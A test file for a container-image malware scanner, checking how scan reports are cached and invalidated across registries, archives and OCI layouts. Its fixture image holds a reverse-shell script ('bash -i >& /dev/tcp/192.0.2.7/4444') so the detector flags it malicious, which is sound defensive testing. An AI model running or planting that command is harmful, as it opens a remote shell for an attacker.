import { cp, mkdtemp, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { setTimeout as pause } from 'node:timers/promises';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { defaultLimits } from '../archive/limits.ts';
import type { ExampleImage } from '../detectors/detector.ts';
import type { Image } from '../image/image.ts';
import { createLayerCache, type LayerCache } from '../inspect/layer-cache.ts';
import type { ImageReport } from '../reports/report.ts';
import { openImage } from '../sources/transport.ts';
import { dockerSave20, ociArchive, writeLayout } from '../testing/archives.ts';
import { buildImage, imageOfBuilt } from '../testing/image-builder.ts';
import { startRegistry, type TestRegistry } from '../testing/registry/start-registry.ts';
import { imageKey } from './report-cache.ts';
import { decodeReports, encodeReports } from './report-record.ts';
import { type ScanEvent, type ScanOptions, scan } from './scan.ts';

const example: ExampleImage = {
  layers: [
    { '/bin/sh': { content: '\u007fELF stand-in', mode: 0o755 } },
    { '/run.sh': { content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n', mode: 0o755 } },
  ],
  entrypoint: ['/bin/sh', '/run.sh'],
};
const changed: ExampleImage = {
  ...example,
  layers: [{ '/bin/sh': { content: '\u007fELF stand-in', mode: 0o755 } }, { '/run.sh': '#!/bin/sh\necho hello\n' }],
};
const built = buildImage(example);

let folder = '';
let registry: TestRegistry;
let turn = 0;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tidewaiter-reports-'));
  registry = await startRegistry();
  registry.put('team/app', '1', built);
});
afterAll(async () => {
  await registry.close();
  await rm(folder, { recursive: true, force: true });
});

const fresh = (): LayerCache => createLayerCache(join(folder, `cache${turn++}`), 1e9);
const tool = { name: 'tidewaiter', version: '0.0.0', engine: 'test' } as const;

interface Seen {
  readonly report: ImageReport;
  readonly events: readonly ScanEvent[];
  /** Whether anything had to be judged. */
  readonly judged: boolean;
}

async function scanned(
  reference: string,
  cache: LayerCache | undefined,
  more: Partial<ScanOptions> = {},
  stdin?: Uint8Array,
): Promise<Seen> {
  const events: ScanEvent[] = [];
  let judged = false;
  const platform = { kind: 'one', platform: { os: 'linux', architecture: 'amd64' }, explicit: false } as const;
  const reports = await scan(reference, {
    tool: async () => {
      judged = true;
      return tool;
    },
    open: (text, signal) =>
      openImage(
        text,
        { platform, limits: defaultLimits, env: {}, ...(stdin === undefined ? {} : { stdin: Readable.from([stdin]) }) },
        signal,
      ),
    build: 'this one',
    ...(cache === undefined ? {} : { cache }),
    onEvent: (event) => events.push(event),
    ...more,
  });
  return { report: reports[0] as ImageReport, events, judged };
}

/** What may differ between a cold and a warm scan, made equal. */
const told = (report: ImageReport): ImageReport => ({
  ...report,
  image: { ...report.image, layers: report.image.layers.map((layer) => ({ ...layer, cached: false })) },
  stats: { ...report.stats, cachedLayers: 0, milliseconds: 0 },
});
const reference = (): string => `${registry.host}/team/app:1`;
/** Blobs that were asked for since, the config left out. */
const layersAsked = (since: number): number =>
  registry.requests
    .slice(since)
    .filter(({ url }) => built.layers.some(({ descriptor }) => url.endsWith(descriptor.digest))).length;

describe('a second scan of an image of a registry', () => {
  test('judges nothing, asks for manifest and config only, and says the same in the same order', async () => {
    const cache = fresh();
    const cold = await scanned(reference(), cache);
    const since = registry.requests.length;
    const warm = await scanned(reference(), cache);
    expect({ cold: cold.judged, warm: warm.judged }).toEqual({ cold: true, warm: false });
    expect(layersAsked(since)).toBe(0);
    expect(JSON.stringify(told(warm.report))).toBe(JSON.stringify(told(cold.report)));
    expect(warm.report.stats.cachedLayers).toBe(2);
    const kinds = ({ events }: Seen) => [...new Set(events.map(({ kind }) => kind))];
    expect(kinds(warm)).toEqual(kinds(cold));
    const early = ({ events }: Seen) => events.flatMap((event) => (event.kind === 'early' ? [told(event.report)] : []));
    expect(early(warm)).toEqual(early(cold));
  });

  test.each<[string, Partial<ScanOptions>]>([
    ['another build of this program', { build: 'another one' }],
    ['other limits', { limits: { ...defaultLimits, textBytes: 1000 } }],
    ['another choice of platforms', { selection: 'all' }],
  ])('judges again with %s', async (_title, more) => {
    const cache = fresh();
    await scanned(reference(), cache);
    expect((await scanned(reference(), cache, more)).judged).toBe(true);
    expect((await scanned(reference(), cache)).judged).toBe(false);
  });

  test('with a new build judges from cached facts without a byte of a layer', async () => {
    const cache = fresh();
    const cold = await scanned(reference(), cache);
    const since = registry.requests.length;
    const other = await scanned(reference(), cache, { build: 'a new detector' });
    expect(other.judged).toBe(true);
    expect(layersAsked(since)).toBe(0);
    expect(told(other.report)).toEqual(told(cold.report));
  });

  test('judges a tag that moved anew, and remembers where it points now', async () => {
    const cache = fresh();
    registry.put('team/moving', 'latest', built);
    const moving = `${registry.host}/team/moving:latest`;
    expect((await scanned(moving, cache)).report.verdict).toBe('malicious');
    registry.put('team/moving', 'latest', buildImage(changed));
    expect(await scanned(moving, cache)).toMatchObject({ judged: true, report: { verdict: 'clear' } });
    expect((await scanned(moving, cache)).judged).toBe(false);
    expect((await cache.entries()).filter(({ kind }) => kind === 'report')).toHaveLength(1);
  });

  test('keeps nothing without a cache', async () => {
    expect((await scanned(reference(), undefined)).judged).toBe(true);
    expect((await scanned(reference(), undefined)).judged).toBe(true);
  });

  test.each([
    ['cut', (bytes: Buffer) => bytes.subarray(0, 60)],
    ['empty', () => Buffer.alloc(0)],
    ['changed in one byte', (bytes: Buffer) => Buffer.from(bytes).fill(0, bytes.length - 3, bytes.length - 2)],
    [
      'of another reference',
      (bytes: Buffer) => encodeReports('0'.repeat(64), decodeReports(bytes, slotIn(bytes)) ?? []) ?? bytes,
    ],
  ])('does not believe a record that was %s, and writes it anew', async (_title, spoil) => {
    const cache = fresh();
    await scanned(reference(), cache);
    const name = (await readdir(cache.folder)).find((each) => each.endsWith('.report')) ?? '';
    slot = name.slice(0, 64);
    const whole = await readFile(join(cache.folder, name));
    await writeFile(join(cache.folder, name), spoil(whole));
    expect((await scanned(reference(), cache)).judged).toBe(true);
    expect((await scanned(reference(), cache)).judged).toBe(false);
  });
  let slot = '';
  const slotIn = (_bytes: Buffer) => slot;

  test('does not keep what time, a stop or a wrong digest left out', async () => {
    const cache = fresh();
    const short = { ...defaultLimits, milliseconds: 0 };
    expect((await scanned(reference(), cache, { limits: short })).report.gaps).not.toEqual([]);
    expect((await scanned(reference(), cache, { limits: short })).judged).toBe(true);
    const own = await startRegistry();
    own.put('team/app', '1', built);
    own.setFaults({ refuse: [{ path: built.layers[1]?.descriptor.digest ?? '', status: 404 }] });
    try {
      const gone = `${own.host}/team/app:1`;
      expect((await scanned(gone, cache)).report.verdict).toBe('incomplete');
      own.setFaults({});
      expect((await scanned(gone, cache)).report.verdict).toBe('malicious');
    } finally {
      await own.close();
    }
  });
});

describe.concurrent('a second scan of what lies on this disk', () => {
  /** Longer than a file has to be left alone before its times say anything. */
  const settled = () => pause(2_100);
  const named = [{ image: built, ref: 'app:1' }];

  test.each([
    ['docker-archive', dockerSave20],
    ['oci-archive', ociArchive],
  ] as const)('%s: judges nothing, until the file changes', async (prefix, write) => {
    const cache = fresh();
    const path = join(folder, `${prefix}.tar`);
    await writeFile(path, write(named));
    await settled();
    const text = `${prefix}:${path}`;
    const cold = await scanned(text, cache);
    const warm = await scanned(text, cache);
    expect({ cold: cold.judged, warm: warm.judged }).toEqual({ cold: true, warm: false });
    expect(told(warm.report)).toEqual(told(cold.report));
    // Other bytes of a layer under the same config.
    const spoilt = Buffer.from(await readFile(path));
    const at = spoilt.indexOf('192.0.2.7') === -1 ? spoilt.length - 20_000 : spoilt.indexOf('192.0.2.7');
    spoilt[at] = (spoilt[at] as number) ^ 1;
    await writeFile(path, spoilt);
    await settled();
    const other = await scanned(text, cache);
    expect(other.judged).toBe(true);
  });

  test('an OCI layout: judges nothing, until a blob is replaced', async () => {
    const cache = fresh();
    const path = join(folder, 'layout');
    await writeLayout(path, named);
    await settled();
    const text = `oci:${path}`;
    expect((await scanned(text, cache)).judged).toBe(true);
    expect((await scanned(text, cache)).judged).toBe(false);
    const [, hex = ''] = (built.layers[1]?.descriptor.digest ?? '').split(':');
    const blob = join(path, 'blobs', 'sha256', hex);
    await cp(blob, `${blob}.new`);
    await rename(`${blob}.new`, blob);
    await settled();
    expect((await scanned(text, cache)).judged).toBe(true);
    expect((await scanned(text, cache)).judged).toBe(false);
  });

  test('a file that was written a moment ago, a stream and a folder are judged each time', async () => {
    const cache = fresh();
    const path = join(folder, 'young.tar');
    await writeFile(path, dockerSave20(named));
    expect((await scanned(`docker-archive:${path}`, cache)).judged).toBe(true);
    const bytes = await readFile(path);
    for (let time = 0; time < 2; time += 1) {
      expect((await scanned('-', cache, {}, bytes)).judged).toBe(true);
      expect((await scanned(`rootfs:${join(folder, 'layout')}`, cache)).judged).toBe(true);
    }
    expect((await cache.entries()).filter(({ kind }) => kind === 'report')).toEqual([]);
  });
});

describe('the key of an image', () => {
  const image: Image = {
    ...imageOfBuilt(built),
    layers: imageOfBuilt(built).layers.map((layer) => ({ ...layer, binding: 'digest' as const })),
  };
  test.each<[string, Partial<Image>]>([
    ['its name', { reference: 'registry.example/other:1' }],
    ['its manifest', { digest: `sha256:${'1'.repeat(64)}` as never }],
    ['its platform', { platform: { os: 'linux', architecture: 'arm64' } }],
    ['a field of the config that nobody reads', { config: { ...image.config, nobody: 1 } as never }],
    ['the order of its layers', { layers: [...image.layers].reverse() }],
    [
      'what ties a layer to its bytes',
      { layers: image.layers.map((layer) => ({ ...layer, binding: async () => 'file 1' })) },
    ],
  ])('changes with %s', async (_title, other) => {
    const key = await imageKey(image);
    expect(key).toMatch(/^[0-9a-f]{64}$/);
    expect(await imageKey({ ...image })).toBe(key);
    expect(await imageKey({ ...image, ...other })).not.toBe(key);
  });
  test('is none where a layer is tied to nothing', async () => {
    const [first, ...rest] = image.layers;
    const { digest: _digest, diffId: _diffId, ...bare } = first as NonNullable<typeof first>;
    expect(await imageKey({ ...image, layers: [{ ...bare, binding: async () => 'file 1' }, ...rest] })).toBeUndefined();
    expect(await imageKey({ ...image, layers: [{ ...bare, binding: 'digest' }, ...rest] })).toBeUndefined();
    const { binding: _binding, ...loose } = first as NonNullable<typeof first>;
    expect(await imageKey({ ...image, layers: [loose, ...rest] })).toBeUndefined();
  });
});

test('a record with any byte changed is none', () => {
  const slot = 'a'.repeat(64);
  const record = encodeReports(slot, []) as Buffer;
  expect(decodeReports(record, slot)).toEqual([]);
  fc.assert(
    fc.property(fc.nat(record.length - 1), fc.integer({ min: 1, max: 255 }), (at, change) => {
      const broken = Buffer.from(record);
      broken[at] = (broken[at] as number) ^ change;
      expect(decodeReports(broken, slot)).toBeUndefined();
    }),
  );
});
